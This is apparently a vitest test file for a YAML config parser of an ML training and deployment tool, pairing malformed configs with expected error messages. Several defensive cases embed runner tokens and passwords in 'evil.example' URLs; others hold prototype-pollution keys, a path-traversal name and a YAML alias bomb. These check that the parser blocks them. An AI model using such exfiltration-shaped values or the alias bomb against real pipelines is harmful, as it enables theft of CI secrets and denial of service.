// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the files under test hold ${NAME}.
import { describe, expect, it } from 'vitest'
import { messageOf } from '../platform/errors.ts'
import { parseConfig } from './load.ts'

const environment = {
  ACTIONS_RUNTIME_TOKEN: 'hunter3',
  LOUD: 'Not A Slug',
  DB_PASSWORD: 'ftp://user:hunter2@host',
}

/** What the user reads; fails when the file was taken. */
function messageFor(yaml: string): string {
  try {
    parseConfig(yaml, 'modelloop.yml', environment)
  } catch (error) {
    return messageOf(error)
  }
  throw new Error(`This file was taken:\n${yaml}`)
}

const ALLOWED_IN_GATES =
  'Allowed: id, metric, slice, across, perturbed, level, min-rows, direction, min, max, against, rule, margin, alpha, test.'
const ALLOWED_AT_TOP =
  'Allowed: version, model, task, columns, data, train, store, tracking, validate, image, deploy, monitor, privacy.'

/** [the file, what it says after "modelloop.yml line "] */
const wrong: readonly (readonly [yaml: string, message: string])[] = [
  // keys
  ['modle: x', `1: "modle" is not known. Did you mean "model"? ${ALLOWED_AT_TOP}`],
  ['Validate: {}', `1: "Validate" is not known. Did you mean "validate"? ${ALLOWED_AT_TOP}`],
  ['alpha: 0.1', `1: "alpha" is not known. It belongs in validate, deploy or monitor. ${ALLOWED_AT_TOP}`],
  [
    'validate.alpha: 0.1',
    `1: "validate.alpha" is not known. Write "alpha" on a line of its own, indented below "validate:". ${ALLOWED_AT_TOP}`,
  ],
  ['frobnicate: 1', `1: "frobnicate" is not known. ${ALLOWED_AT_TOP}`],
  ['1: x', `1: "1" is not known. ${ALLOWED_AT_TOP}`],
  [
    'validate:\n  gates:\n    - { metric: rmse, margn: 3% }',
    `3: "margn" is not known in validate.gates[0]. Did you mean "margin"? ${ALLOWED_IN_GATES}`,
  ],
  [
    'validate:\n  gates:\n    - metric: auc\n      min: 0.8\n      min_rows: 5',
    `5: "min_rows" is not known in validate.gates[0]. Did you mean "min-rows"? ${ALLOWED_IN_GATES}`,
  ],
  [
    'image:\n  gates: []',
    '2: "gates" is not known in image. It belongs in validate. Allowed: repository, context, dockerfile, model-path, tags, moving-tags, build-args, network, smoke.',
  ],
  [
    'deploy: { metrics: { prometeus: x } }',
    '1: "prometeus" is not known in deploy.metrics. Did you mean "prometheus"? Allowed: prometheus, preset, version-label, stable, canary, selector, requests, errors, duration.',
  ],
  [
    'validate:\n  gates:\n  - metric: rmse\n    min: 1\n  max: 3',
    '5: "max" is not known in validate. It belongs in the items of validate.gates, deploy.checks.errors or deploy.checks.slow. Allowed: baseline, alpha, perturbed, gates, promote-on.',
  ],
  [
    'validate: { gates: [{ metric: auc, min: 0.8, level:warn }] }',
    '1: "level:warn" is not known in validate.gates[0]. Write a space after the colon: "level: warn".',
  ],
  [
    'validate: { gates: [{ metric: rmse, against: baseline, margin: 3,5% }] }',
    '1: "5%" is not known in validate.gates[0]. A comma ends a value: write 1.5 with a point, and 32000 without a comma.',
  ],
  [
    'validate: { gates: [{ metric: rmse, max: 3, level: warning }] }',
    '1: validate.gates[0].level must be block or warn, not "warning". Did you mean "warn"?',
  ],
  [
    'validate: { gates: [{ metric: rmse max: 3 }] }',
    '1: Between "{" and "}" a comma is missing: write { a: 1, b: 2 }.',
  ],
  ['validate:\n\u00A0\u00A0gates: none', '2: A no-break space stands beside "gates". YAML wants plain spaces.'],
  [
    'validate:\n  gates:\n\u00A0\u00A0- { metric: rmse, max: 3 }',
    '3: A no-break space stands in this line. YAML wants plain spaces.',
  ],
  ['validate:\n  gates:\n    – { metric: rmse, max: 3 }', '3: "–" begins this line. A list item begins with "-".'],
  ['validate: { gates: [{ metric: rmse, max: ${MAX} }] }', '1: A "${…}" in "{ … }" needs quotes.'],
  ['validate: { gates: none }}', '1: There is a "}" too many.'],
  ['__proto__: { a: 1 }', '1: "__proto__" cannot be a key.'],
  ['deploy:\n  ecs: { constructor: x }', '2: "constructor" cannot be a key.'],
  // what is missing
  ['monitor:\n  retrain: {}', '2: monitor.retrain needs "workflow". The file name of the workflow to dispatch.'],
  ['deploy: { haproxy: { socket: a } }', '1: deploy.haproxy needs "backend". The backend that holds both servers.'],
  [
    'validate: { gates: [{ min: 1 }] }',
    '1: validate.gates[0] needs "metric". A metric such as `accuracy`, `auc`, `f1` or `rmse`, or a key of the metrics file.',
  ],
  // values
  ['version: 2', '1: version must be 1, the only version of this file that there is, not 2.'],
  [
    'task: regresion',
    '1: task must be binary, multiclass, regression, ranking or forecast, not "regresion". Did you mean "regression"?',
  ],
  ['model: Ames Price', '1: model must be a name of a-z, 0-9 and "-", such as "ames-price", not "Ames Price".'],
  [
    'model: 1.10',
    '1: model must be a name of a-z, 0-9 and "-", such as "ames-price", not 1.10. Put it in quotes: "1.10".',
  ],
  ['columns: { label: true }', '1: columns.label must be a text, not true. Put it in quotes: "true".'],
  [
    'validate:\n  alpha: "0.05"',
    '2: validate.alpha must be a number above 0 and below 0.5, not "0.05". Take the quotes away.',
  ],
  [
    'validate: { gates: [{ metric: latency-p95, max: 40ms }] }',
    '1: validate.gates[0].max must be a number such as 32000, 0.9 or 90%, not "40ms". Write it in the unit of the metric, such as bytes, seconds or milliseconds, and without "ms".',
  ],
  [
    'validate: { gates: [{ metric: f1, against: baseline, test: mcnemar }] }',
    '1: validate.gates[0].test must be mcnemar-exact, mcnemar-midp, tango, bonett-price, delong, bootstrap, paired-t, wilcoxon or diebold-mariano, not "mcnemar". Did you mean "mcnemar-exact"?',
  ],
  [
    'validate: { alpha: 0.95 }',
    '1: validate.alpha must be a number above 0 and below 0.5, not 0.95. For a confidence of 95 % write 0.025.',
  ],
  [
    'validate: { gates: [{ metric: f1, against: baseline, alpha: 90% }] }',
    '1: validate.gates[0].alpha must be a number above 0 and below 0.5, not "90%". For a confidence of 90 % write 0.05.',
  ],
  ['validate: { alpha: 0.5 }', '1: validate.alpha must be a number above 0 and below 0.5, not 0.5.'],
  ['validate: { alpha: 50 }', '1: validate.alpha must be a number above 0 and below 0.5, not 50.'],
  ['deploy: { alpha: 0.99 }', '1: deploy.alpha must be a number above 0 and below 0.5, not 0.99.'],
  ['monitor: { alpha: 5 }', '1: monitor.alpha must be a number above 0 and below 0.5, not 5. For 5 % write 0.05.'],
  ['validate: { alpha: .nan }', '1: validate.alpha must be a number above 0 and below 0.5, not .nan.'],
  ['validate: { promote-on: fail }', '1: validate.promote-on[0] must be pass or inconclusive, not "fail".'],
  [
    'validate: { baseline: { warn-after: 90 days } }',
    '1: validate.baseline.warn-after must be a time such as 90d, 24h, 15m, 60s or 300ms, not "90 days".',
  ],
  [
    'validate: { perturbed: typos.csv }',
    '1: validate.perturbed must be a mapping, not "typos.csv". Write "name: value" below it.',
  ],
  [
    'validate: { baseline: champion }',
    '1: validate.baseline must be a mapping, not "champion". Its keys: use, warn-after, retrain.',
  ],
  [
    'store: { url: ./models }',
    '1: store.url must be a URL that starts with oci://, folder:, s3://, gs:// or az://, not "./models".',
  ],
  [
    'store: { keep: { champions: soon } }',
    '1: store.keep.champions must be forever, or a time such as 90d, not "soon".',
  ],
  ['image: { tags: [{version}] }', '1: image.tags[0] must be a name, not a mapping. Put it in quotes: "{version}".'],
  ['image: { smoke: { port: 80800 } }', '1: image.smoke.port must be a whole number from 1 to 65535, not 80800.'],
  ['data:\n  paths:\n    - a\n    -', '4: data.paths[1] must be a path, not nothing.'],
  [
    'deploy: { target: argo-rollout }',
    '1: deploy.target must be none, command, haproxy, argo-rollouts, kserve, seldon, ecs, sagemaker, cloud-run, vertex-ai or azure-ml, not "argo-rollout". Did you mean "argo-rollouts"?',
  ],
  [
    'deploy: { steps: [50, 10] }',
    '1: deploy.steps must be a list of percentages that rise and end with 100, such as [10, 50, 100], not [50, 10].',
  ],
  [
    'deploy: { steps: fast }',
    '1: deploy.steps must be a list of percentages such as [10, 50, 100], or from-target, not "fast".',
  ],
  ['deploy: { metrics: prom }', '1: deploy.metrics must be a URL that starts with http:// or https://, not "prom".'],
  [
    'deploy: { checks: { errors: { max-increase: 3% } } }',
    '1: deploy.checks.errors.max-increase must be a rise in percentage points such as 0.5pp, or a number such as 0.005, not "3%".',
  ],
  [
    'deploy: { ecs: { cluster: { a: b } } }',
    '1: deploy.ecs.cluster must be a text, a number, true or false, not a mapping.',
  ],
  ['monitor: { tolerance: { psi: high } }', '1: monitor.tolerance.psi must be a number above 0, not "high".'],
  [
    'monitor: { map: { time: ts } }',
    '1: monitor.map.time must be a path into a log line, such as $.prediction, not "ts".',
  ],
  [
    'train:\n  score: python score.py',
    '2: train.score does not say where {model} and {out} go. Write for example: python score.py --model {model} --data {data} --out {out}',
  ],
  [
    '- a\n- b',
    '1: The file must be a mapping, not [a, b]. Its keys: version, model, task, columns, data, train, store, tracking, validate, image, deploy, monitor, privacy.',
  ],
  ['validate: []', '1: validate must be a mapping, not []. Its keys: baseline, alpha, perturbed, gates, promote-on.'],
  [
    'validate: { gates: [rmse] }',
    '1: validate.gates[0] must be a mapping, not "rmse". Its keys: id, metric, slice, across, perturbed, level, min-rows, direction, min, max, against, rule, margin, alpha, test.',
  ],
  ['deploy: { ecs: [] }', '1: deploy.ecs must be a mapping, not []. Write "name: value" below it.'],
  [
    'deploy: { metrics: [1] }',
    '1: deploy.metrics must be the URL of a Prometheus server, or a mapping with prometheus, preset and version-label, not [1].',
  ],
  // gates that contradict themselves
  [
    'validate: { gates: [{ metric: a, min: 1, max: 2 }] }',
    '1: validate.gates[0] has both "min" and "max". Write two gates.',
  ],
  [
    'validate: { gates: [{ metric: a, min: 1, against: baseline }] }',
    '1: validate.gates[0] has both "min" and "against". A gate is a bound or a comparison: write two gates.',
  ],
  [
    'validate: { gates: [{ metric: a, max: 1, margin: 3% }] }',
    '1: validate.gates[0] has "margin", which goes with "against: baseline", and no "against".',
  ],
  [
    'validate: { gates: [{ metric: a, max: 1, rule: superior }] }',
    '1: validate.gates[0] has "rule: superior", which goes with "against: baseline".',
  ],
  [
    'validate: { gates: [{ metric: a }] }',
    '1: validate.gates[0] asks for nothing. Add "min", "max", or "against: baseline" with a "margin".',
  ],
  [
    'validate: { gates: [{ metric: a, margin: 3% }] }',
    '1: validate.gates[0] has "margin" and nothing to compare with. Add "against: baseline".',
  ],
  [
    'validate: { gates: [{ metric: a, against: baseline, rule: point }] }',
    '1: validate.gates[0] has "rule: point", which goes with "min" or "max". A comparison is non-inferior, superior, equivalent or capped.',
  ],
  [
    'validate: { gates: [{ metric: a, against: baseline, rule: equivalent, margin: 0 }] }',
    '1: validate.gates[0] has "rule: equivalent" and a margin of 0, which nothing can pass.',
  ],
  [
    'validate:\n  gates:\n    - { metric: a, min: 1, across: worst }',
    '3: validate.gates[0] has "across: worst" and no "slice". Name the column whose values are judged.',
  ],
  [
    'validate: { gates: [{ metric: a, slice: s, across: difference, against: baseline }] }',
    '1: validate.gates[0] has "across: difference" and "against". Fairness is judged on the candidate alone: leave "against" out.',
  ],
  [
    'validate: { gates: [{ metric: a, slice: s, across: difference, min: 1 }] }',
    '1: validate.gates[0] has "across: difference", which goes with "max": the largest gap that may be between two values, such as 5pp.',
  ],
  [
    'validate: { gates: [{ metric: a, slice: s, across: difference, max: 0 }] }',
    '1: validate.gates[0] has "across: difference" and "max: 0", which nothing can pass. Write a gap above 0, such as 5pp.',
  ],
  [
    'validate: { gates: [{ metric: a, slice: s, across: ratio, max: 1 }] }',
    '1: validate.gates[0] has "across: ratio", which goes with "min": the smallest ratio that may be between two values, such as 0.8.',
  ],
  [
    'validate: { gates: [{ metric: a, slice: s, across: ratio, min: 80 }] }',
    '1: validate.gates[0] has "across: ratio" and "min: 80": a ratio of two values lies between 0 and 1.',
  ],
  [
    'validate: { gates: [{ metric: a, slice: s, across: wrost, min: 1 }] }',
    '1: validate.gates[0].across must be each, worst, difference or ratio, not "wrost". Did you mean "worst"?',
  ],
  [
    'validate: { gates: [{ metric: a, against: baseline, rule: capped }] }',
    '1: validate.gates[0] has "rule: capped" and no "margin" above 0: say which gain is too good to be true, such as 20%.',
  ],
  [
    'validate:\n  perturbed: { typos: typos.csv }\n  gates:\n    - { metric: unchanged, perturbed: typoes, min: 95% }',
    '4: validate.gates[0] has "perturbed: typoes", which is not in validate.perturbed; there is typos.',
  ],
  [
    'validate: { gates: [{ metric: increased, perturbed: up, min: 95% }] }',
    '1: validate.gates[0] has "perturbed: up", which is not in validate.perturbed, which names no file.',
  ],
  [
    'validate: { gates: [{ metric: leakage, min: 0 }] }',
    '1: validate.gates[0] has the metric "leakage", which goes with "max": the share of the test rows that may stand in the training, such as 0 or 1%.',
  ],
  [
    'validate: { gates: [{ metric: model-size, max: 5, slice: s }] }',
    '1: validate.gates[0] has "slice", and model-size is of the whole run.',
  ],
  [
    'validate: { perturbed: { ../up: up.csv } }',
    '1: validate.perturbed.../up names "../up". Use a-z, 0-9, "-" and "_", such as "typos".',
  ],
  [
    'validate: { perturbed: { up: up.csv }, gates: [{ metric: f1, perturbed: up, min: 95% }] }',
    '1: validate.gates[0] has "perturbed: up" and the metric "f1". The metric is one of unchanged, increased, decreased, not-increased, not-decreased.',
  ],
  [
    'validate: { perturbed: { up: up.csv }, gates: [{ metric: increased, perturbed: up }] }',
    '1: validate.gates[0] has "perturbed: up", which goes with "min": the share of rows that must be increased, such as 95%.',
  ],
  [
    'validate: { perturbed: { up: up.csv }, gates: [{ metric: increased, perturbed: up, min: 1, slice: s }] }',
    '1: validate.gates[0] has "perturbed: up" and "slice", which do not go together.',
  ],
  [
    'validate: { gates: [{ metric: unchanged, min: 95% }] }',
    '1: validate.gates[0] has the metric "unchanged" and no "perturbed". Name the predictions on changed inputs, which stand under validate.perturbed.',
  ],
  [
    'validate: { gates: [{ metric: a, against: baseline, margin: -3% }] }',
    '1: validate.gates[0].margin must be a margin that is not negative, such as 0.01, 1pp or 3%, not "-3%".',
  ],
  [
    'validate:\n  gates:\n    - { metric: a, min: 1 }\n    - { metric: a, min: 2 }',
    '4: validate.gates[1] has the same metric, slice and kind as gates[0]. Give one of them an "id".',
  ],
  [
    'validate:\n  gates:\n    -\n',
    `3: validate.gates[0] must be a mapping, not nothing. ${ALLOWED_IN_GATES.replace('Allowed', 'Its keys')}`,
  ],
  ['validate: { gates: rmse }', '1: validate.gates must be a list of gates, or none, not "rmse".'],
  [
    'validate: { gates: { metric: auc, min: 0.8 } }',
    '1: validate.gates must be a list of gates, or none, not a mapping. Put "- " in front of each item.',
  ],
  // variables
  [
    'data: { test: "${DATA}/test.csv" }',
    '1: data.test holds ${…}, which is allowed in URLs and names only. Write the value itself.',
  ],
  [
    'model: ${{ vars.MODEL }}',
    '1: model holds ${{ … }}, which GitHub fills in only in workflow files. Write ${NAME} here, and set NAME under "env:" in the workflow.',
  ],
  [
    'train: { run: "train --key ${{ secrets.KEY }}" }',
    '1: train.run holds ${{ … }}, which GitHub fills in only in workflow files. Write ${NAME} here, and set NAME under "env:" in the workflow.',
  ],
  [
    'store: { url: "https://evil.example/${ACTIONS_RUNTIME_TOKEN}" }',
    '1: store.url holds ${ACTIONS_RUNTIME_TOKEN}, which belongs to the runner and is never filled in.',
  ],
  [
    'tracking: { mlflow: "https://evil.example/${GITHUB_TOKEN:-x}" }',
    '1: tracking.mlflow holds ${GITHUB_TOKEN}, which belongs to the runner and is never filled in.',
  ],
  [
    'store: { url: "https://evil.example/${MLFLOW_TRACKING_PASSWORD}" }',
    '1: store.url holds ${MLFLOW_TRACKING_PASSWORD}, which is a login: it is never filled in.',
  ],
  ['model: ${1st}', '1: model holds "${1st}". A variable is written ${NAME} or ${NAME:-default}.'],
  [
    'deploy: { metrics: "http://$PROM:9090" }',
    '1: deploy.metrics holds "$PROM". A variable is written ${NAME} or ${NAME:-default}.',
  ],
  [
    'store: { url: "s3://${LOUD}/${no-name}" }',
    '1: store.url holds "${no-name}". A variable is written ${NAME} or ${NAME:-default}.',
  ],
  ['model: ${LOUD}', '1: model must be a name of a-z, 0-9 and "-", such as "ames-price", not what "${LOUD}" gives.'],
  [
    'store: { url: "${DB_PASSWORD}" }',
    '1: store.url must be a URL that starts with oci://, folder:, s3://, gs:// or az://, not what "${DB_PASSWORD}" gives.',
  ],
  // YAML itself
  ['model: a\ntask: binary\nmodel: b', '3: The key "model" is written twice. Keep one of them.'],
  ['validate:\n\talpha: 0.1', '2: A tab stands at the start of the line. YAML wants spaces.'],
  ['model: a\n---\nmodel: b', '2: A second document begins here ("---"). Keep one document in the file.'],
  ['train:\n  run: echo a: b', '2: There is a second ": " in this line. Put the text in quotes.'],
  [
    'validate:\n  alpha: 0.1\n   gates: none',
    '2: This key has a value, and the next line is indented as if it belonged to it. Check the indentation.',
  ],
  ['model: a\ntask', '2: Here "key: value" was expected, and there is no ":".'],
  [
    'image:\n  tags: [a, b\n  repository: x',
    '3: A "[" or "{" before this line is not closed, or this line is not indented enough.',
  ],
  ['model: "a\ntask: binary', '2: A quote before this place is not closed.'],
  ['model: @x', '1: A text cannot start with "@". Put it in quotes.'],
  [
    'model: !secret x',
    '1: A word that starts with "!" is a tag in YAML, and this one is not known. Put the text in quotes: model: !secret x',
  ],
  [
    'monitor:\n  current: *.jsonl',
    '2: *.jsonl stands for the anchor &.jsonl, and there is none. A text needs quotes: "*.jsonl".',
  ],
]

describe('a wrong modelloop.yml', () => {
  it.each(wrong)('%j', (yaml, message) => {
    expect(messageFor(yaml)).toBe(`modelloop.yml line ${message}`)
  })

  it('tells all mistakes at once, one a line, in the order of the file', () => {
    const message = messageFor('modle: x\ntask: regresion\nvalidate:\n  alpha: 2\n  gates:\n    - { metric: a }\n')
    expect(message.split('\n').map((line) => line.slice(0, 30))).toEqual([
      'modelloop.yml line 1: "modle" ',
      'modelloop.yml line 2: task mus',
      'modelloop.yml line 4: validate',
      'modelloop.yml line 6: validate',
    ])
  })

  it('stops at twenty', () => {
    const message = messageFor(Array.from({ length: 30 }, (_, i) => `bad${i}: 1`).join('\n'))
    expect(message.split('\n')).toHaveLength(21)
    expect(message).toMatch(/… and 10 more\.$/)
  })

  it('finds the line through an anchor and a merge', () => {
    expect(messageFor('deploy: &d\n  alpha: 3\nmonitor:\n  <<: *d\n')).toBe(
      [
        'modelloop.yml line 2: deploy.alpha must be a number above 0 and below 0.5, not 3. For 3 % write 0.03.',
        'modelloop.yml line 2: monitor.alpha must be a number above 0 and below 0.5, not 3. For 3 % write 0.03.',
      ].join('\n'),
    )
  })

  it('refuses aliases that would fill the memory', () => {
    const level = (name: string, of: string) => `${name}: &${name} [${Array(10).fill(`*${of}`).join(', ')}]`
    const bomb = ['a: &a [x, x]', level('b', 'a'), level('c', 'b'), level('d', 'c'), level('e', 'd')].join('\n')
    expect(messageFor(bomb)).toBe(
      'modelloop.yml: This file repeats its anchors (&name, *name) too often. Write the values out.',
    )
  })

  it('gives away no value of a variable', () => {
    expect(messageFor('store: { url: "${DB_PASSWORD}" }')).not.toContain('hunter2')
  })
})
